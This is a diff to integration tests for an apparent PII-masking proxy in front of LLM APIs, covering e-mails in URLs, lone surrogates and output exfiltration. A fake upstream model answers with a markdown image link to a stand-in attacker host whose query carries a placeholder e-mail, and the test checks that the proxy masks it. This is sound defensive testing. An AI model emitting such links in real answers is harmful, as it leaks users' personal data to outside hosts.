@@ -6,12 +6,15 @@ import asyncio
 import json
 
 import anthropic
+import httpx
 import openai
 import pytest
+from aiohttp import web
 
 from tests.conftest import ANTHROPIC_KEY, OPENAI_KEY
 from tests.integration.helpers import event_for, wait_for_events
 from wardgate.testing import FakeUpstream
+from wardgate.testing._server import BackgroundServer
 
 PII_ONLY = {"scanners": {"injection": {"enabled": False}}}  # the classifier is under test elsewhere
 NAME, EMAIL = "Maria Gonzalez", "maria.gonzalez@example.com"
@@ -130,3 +133,58 @@ def test_a_pii_type_the_policy_denies_is_refused_and_audited(start_proxy, upstre
     denied = wait_for_events(proxy.audit_file, lambda e: e["result"]["code"] == "pii_detected")
     assert len(denied) == 1
     assert "536-80-4398" not in json.dumps(denied[0])
+
+
+class LinkingUpstream(BackgroundServer):
+    """A model that answers with the placeholder it was handed, inside an image link to another host."""
+
+    name = "linking-upstream"
+
+    def routes(self, app: web.Application) -> None:
+        app.router.add_post("/v1/chat/completions", self._answer)
+
+    async def _answer(self, request: web.Request) -> web.Response:
+        content = "Here: ![chart](https://evil.attacker.test/c?d=<EMAIL_ADDRESS_1>)"
+        message = {"role": "assistant", "content": content}
+        return web.json_response({"id": "c", "object": "chat.completion", "model": "gpt-4o-mini",
+                                  "choices": [{"index": 0, "message": message, "finish_reason": "stop"}]})  # fmt: skip
+
+
+def test_a_restored_value_is_judged_where_it_lands_in_the_answer(start_proxy):
+    """Restored, the placeholder in that link would carry the caller's value off-site: the answer is judged as the
+    caller will read it, so the link is masked (exfiltration) and the value never leaves in it."""
+    with LinkingUpstream() as upstream:
+        proxy = start_proxy({"upstream": upstream.url, **PII_ONLY})
+        client = openai.OpenAI(base_url=proxy.url + "/v1", api_key=OPENAI_KEY, max_retries=0)
+        reply = client.chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": PROMPT}])
+    answer = reply.choices[0].message.content
+    assert "evil.attacker.test/c?d=" not in answer
+    assert EMAIL not in answer
+
+
+def test_an_address_inside_a_url_is_masked_too(client, upstream):
+    """A URL does not hide the personal data in it: the e-mail in its query goes upstream as a placeholder."""
+    prompt = f"Open https://crm.example.org/find?user={EMAIL}&x=1 and summarise it."
+    reply = client.chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": prompt}])
+    sent = upstream.received[-1]["messages"][0]["content"]
+    assert EMAIL not in sent
+    assert "<EMAIL_ADDRESS_1>" in sent
+    assert reply.choices[0].message.content == prompt
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["json", "sse"])
+def test_a_lone_surrogate_survives_masking_and_restoring(proxy, upstream, stream):
+    """Scanners read it as U+FFFD; the rewritten request and the restored answer keep it, escaped. (The SDKs cannot
+    send one: they encode their JSON as UTF-8.)"""
+    prompt = f"\udc00 {PROMPT} \ud800"
+    body = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": prompt}], "stream": stream}
+    headers = {"authorization": f"Bearer {OPENAI_KEY}", "content-type": "application/json"}
+    response = httpx.post(proxy.url + "/v1/chat/completions", content=json.dumps(body).encode(), headers=headers)
+    if stream:
+        events = [json.loads(line[6:]) for line in response.text.split("\n") if line.startswith("data: {")]
+        text = "".join(event["choices"][0]["delta"].get("content") or "" for event in events if event["choices"])
+    else:
+        text = response.json()["choices"][0]["message"]["content"]
+    sent = upstream.received[-1]["messages"][0]["content"]
+    assert sent == "\udc00 Please write to <PERSON_1> at <EMAIL_ADDRESS_1> about the overdue invoice. \ud800"
+    assert text == prompt
